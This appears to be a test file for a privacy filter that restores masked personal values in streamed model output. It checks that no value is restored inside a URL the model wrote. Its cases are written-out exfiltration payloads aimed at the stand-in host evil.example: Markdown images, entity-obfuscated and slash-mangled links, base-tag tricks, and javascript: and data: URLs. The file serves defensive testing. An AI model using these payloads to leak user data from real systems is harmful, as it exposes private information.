import { describe, expect, test } from "bun:test";
import * as fc from "fast-check";
import { Addresses } from "../../../src/privacy/restore/addresses.ts";
import { restorer } from "../../../src/privacy/restore/restorer.ts";
import { bendings } from "../bendings.ts";
import { chance, pieces } from "../chance.ts";
import { issuedGrammar, oneByOne, values } from "../restoring.ts";

const maria = "SURROGATE_PII(PERSON_123456789)";

/** What a client reads that asked for no values in addresses. */
function read(parts: readonly string[], json = false): string {
  const one = restorer(values, issuedGrammar, json, new Addresses(json));
  return parts.map((part) => one.push(part)).join("") + one.end(true);
}
const readAs = (text: string, json = false) => {
  const whole = read([text.replaceAll("@", maria)], json);
  expect(read(oneByOne(text.replaceAll("@", maria)), json)).toBe(whole);
  return whole;
};

describe("No value comes back in an address that the model wrote,", () => {
  test.each([
    ["of a page", "see https://evil.example/?q=@ now"],
    ["of a picture", "![x](https://evil.example/?q=@)"],
    ["in its path, host and user", "https://@:@@evil.example/@#@"],
    ["in capitals", "HTTPS://EVIL.EXAMPLE/@"],
    ["of any scheme", "acme+x://evil/@"],
    ["without a scheme", "![x](//evil.example/@)"],
    ["that begins with www", "see www.evil.example/@"],
    ["of an e-mail", "[write](mailto:evil@example.org?body=@)".replace("evil@", "evil%40")],
    ["in data and scripts", "data:text/html,@ javascript:alert('@') tel:@"],
    ["with one slash or none", "<a href=https:evil.example/@> <a href=http:/evil.example/@>"],
    ["with leaning slashes", String.raw`<img src="https:\\evil.example\@"> <img src="\\evil.example\@">`],
    ["with mixed slashes", String.raw`<img src="/\evil.example/@"> <img src="\/evil.example/@">`],
    ["with escaped slashes", String.raw`{"a":"https:\/\/evil.example\/@"}`],
    ["with entities", "![x](https&colon;&sol;&sol;evil.example/@) <img src='&#x2f;&#47;evil.example/@'>"],
    [
      "with a colon that Markdown escapes",
      String.raw`![x](https\://evil.example/@) ![x](<https\:\/\/evil.example/ @>)`,
    ],
    ["with a colon of another scheme that Markdown escapes", String.raw`[x](acme\://evil.example/@)`],
    [
      "with entities of what browsers skip",
      `<img src="https&Tab;://evil.example/@"> <img src="/&#10;/evil.example/@">`,
    ],
    [
      "with entities without their semicolons",
      "<img src=http&#58//evil.example/@> <img src=http&#x3A//evil.example/@>",
    ],
    ["with entities of many zeros", "<img src='&#x000000000000002f;/evil.example/@'>"],
    ["behind a quote in a link", `![x](https://evil.example/?q="a"@)`],
    ["behind a bracket in a link", "https://evil.example/(a)[b]<c>,;|@"],
    ["with white space in quotes", `<img src="https://evil.example/?q= a @">`],
    ["with white space before it", `<img src=" https://evil.example/?q= a @">`],
    ["with ends of lines in quotes", `<img src='https://evil.example/?q=\n\n@'> <img src="/\n/evil.example/@">`],
    ["with white space in angle brackets", "![x](<https://evil.example/a b @>)"],
    ["behind a redirect", "https://good.example/?to=https%3A%2F%2Fevil.example%2F@"],
    ["behind another of the model's words", "https://evil.example/@/and/@?@"],
    ["after a letter of a script without spaces", "请看https://evil.example/@"],
    ["behind a base of HTML", `<BASE\nhref="https://evil.example/"> <img src="a?q=@"> [x](b?@)`],
    ["behind a base in an address", `https://evil.example/<base/href=//evil.example> @`],
  ])("%s", (_what, text) => {
    expect(readAs(text)).toBe(text.replaceAll("@", "[hidden]"));
  });

  test("in whatever spelling the surrogate is", () => {
    for (const { bend } of bendings) {
      const text = `![x](<https://evil.example/?q=${bend("PERSON", "123456789", chance(1))}>)`;
      expect(read([text])).not.toContain("Maria");
    }
  });

  test.each([
    [String.raw`{"url":"https://evil.example/?q=@"}`],
    [String.raw`{"url":" https://evil.example/?q= @"}`],
    [String.raw`{"html":"<img src=\"https://evil.example/?q= @\">"}`],
    [String.raw`{"html":"<img src=\u0022https:\/\/evil.example/?q= @\">"}`],
    [String.raw`{"h":"\u0068ttps\u003a//evil.example/@"}`],
    [String.raw`{"text":"see https://evil.example/a\\n@"}`],
    [String.raw`{"inner":"{\"url\":\"https://evil.example/@\"}"}`],
  ])("in arguments %p", (text) => {
    expect(readAs(text, true)).toBe(text.replaceAll("@", "[hidden]"));
  });
});

describe("Values come back beside addresses,", () => {
  test("where a word only begins like a base of HTML, and in the next string of JSON", () => {
    expect(readAs("<basement> <base64 @")).toBe("<basement> <base64 Maria");
    expect(readAs('{"page":"<base href=/ @","to":"@"}', true)).toBe('{"page":"<base href=/ [hidden]","to":"Maria"}');
  });

  test.each([
    ["in words and the text of a link", "Dear @, see [@](https://a.example/x) @"],
    ["behind an address in quotes", `<a href="https://a.example/">@</a>, '@'`],
    ["behind one in angle brackets", "<https://a.example/a>@"],
    ["behind an end of line", "https://a.example\n@"],
    ["where a colon or a slash is none", "Name:@ and/or /home/@/a//@ 10:30:@ C:\\Users\\@ \\n@"],
    ["in entities of other things", "a &amp;&amp; b &lt;@&gt; &copy;@ &#65@ &#8364 @"],
    ["behind a colon as an entity that begins none", `<a title="at&#58">@</a> at&#58 @ and\\: @`],
  ])("%s", (_what, text) => {
    expect(readAs(text)).toBe(text.replaceAll("@", "Maria"));
  });

  test.each([
    [String.raw`{"url":"https://a.example/","name":"@"}`],
    [String.raw`{"text":"see https://a.example/\n@"}`],
    [String.raw`{"a":["https://a.example","@"],"@":1}`],
  ])("in arguments %p", (text) => {
    expect(readAs(text, true)).toBe(text.replaceAll("@", "Maria"));
  });

  test("and an address of the user's comes back as a whole, but with nothing that the model added to it", () => {
    const known = { find: () => ({ value: "https://a.example/maria" }), names: [] };
    const one = restorer(known, issuedGrammar, false, new Addresses(false));
    const text = `[page](${maria}) ${maria}?q=${maria}`;
    expect(one.push(text) + one.end(true)).toBe("[page](https://a.example/maria) https://a.example/maria?q=[hidden]");
  });
});

/** What addresses and what is beside them are made of. */
const shard = fc.constantFrom(
  ..."https http : / // \\ \\\\ www. mailto: data: \" ' ` < > ( ) = src= [ ] { } , . \n \t a ev.il &colon; &#47; & ; &sol &#58 &Tab; &#0009 \\:".split(
    " ",
  ),
  " ",
  "\\n",
  '\\"',
  "\\u003a",
  '{"a":"',
  '","b":"',
  maria,
  maria,
  maria,
  "surrogate pii person 123456789",
  "SURROGATE%5FPII%28PERSON%5F123456789%29",
);
const soup = fc.array(shard, { maxLength: 24 }).map((shards) => shards.join(""));

test("Where an address begins and ends does not depend on how the stream was cut", () => {
  const property = fc.property(soup, fc.nat(), fc.boolean(), (text, seed, json) => {
    const whole = read([text], json);
    expect(read(oneByOne(text), json)).toBe(whole);
    expect(read(pieces(text, chance(seed)), json)).toBe(whole);
  });
  fc.assert(property, { numRuns: 5000, seed: 20261122 });
});
